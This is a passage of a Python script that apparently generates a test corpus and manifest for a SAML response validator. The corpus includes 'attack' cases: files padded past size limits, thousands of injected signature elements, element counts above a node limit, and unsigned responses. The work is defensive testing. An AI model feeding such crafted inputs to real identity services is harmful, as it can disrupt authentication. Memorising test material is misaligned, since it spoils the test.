          "insert '<samlp:Extensions>' + '<x xmlns:n=\"urn:n\"/>' x 5000 + '</samlp:Extensions>' immediately "
          "before the first '<samlp:Status>'")
generated("responses/generic.xml", 37, "5,000 ds:Signature elements", GEN, "unexpected_signature",
          "insert '<samlp:Extensions xmlns:ds=\"http://www.w3.org/2000/09/xmldsig#\">' + '<ds:Signature/>' x 5000 "
          "+ '</samlp:Extensions>' immediately before the first '<samlp:Status>'")
generated("responses/generic.xml", 37, "100,001 elements (node limit 100,000)", GEN, "node_limit",
          "insert '<samlp:Extensions>' + '<x/>' x 100001 + '</samlp:Extensions>' immediately before the first "
          "'<samlp:Status>'")
generated("responses/clientvpn.xml", 37, "10 MiB input", CV, "input_too_large",
          "append 10,485,760 spaces to the file")
generated("responses/clientvpn.xml", 37, "XML over Client VPN's 128 KiB", CV, "decoded_too_large",
          "append spaces until the file is 131,073 bytes")
generated("responses/aws-console.xml", 37, "XML over the AWS console's 75,000 bytes (100,000 base64 chars)",
          AWSC, "decoded_too_large", "append spaces until the file is 75,001 bytes")


# ---------------------------------------------------------------------------
# Manifest and plan

BY_NAME = {c.name: c for c in CASES}


def manifest():
    entries = []
    for c in CASES:
        entries.extend(c.entries)
    policy_entries = {}
    for e in entries:
        if e["suite"] == "policy":
            policy_entries.setdefault(e["file"], e)
    for f in ["policy/aws-console-unsigned-response-irt.xml", "policy/generic-unsigned-response-irt.xml"]:
        e = dict(policy_entries[f], suite="attack", **{"class": 21})
        entries.append(e)
    for f, what in SEMANTIC:
        e = dict(policy_entries[f], suite="attack", **{"class": 36})
        e["description"] = f"{what}: {e['description']}"
        entries.append(e)
    entries.extend(GENERATED)
    order = {"policy": 0, "attack": 1}
    entries.sort(key=lambda e: (order[e["suite"]], e["class"] if isinstance(e["class"], int) else 0))
    return json.dumps(entries, indent=2, ensure_ascii=True) + "\n"


def plan():
    lines = []
    for c in CASES:
        lines.append(f"case\t{c.name}\t{c.path}")
        for xp, key in c.sign:
            lines.append(f"sign\t{xp}\t{key}")
        lines.append("finalize")
        if c.post:
            lines.append("post")
        for xp, cert, result in c.checks:
            lines.append(f"check\t{xp}\t{cert}\t{result}")
    return "\n".join(lines) + "\n"


def post(name, path):
    c = BY_NAME[name]
    doc = gen.read(path)
    out = c.post(doc)
    if isinstance(out, bytes):
        with open(path, "wb") as f:
            f.write(out)
    else:
        gen.write(path, out)
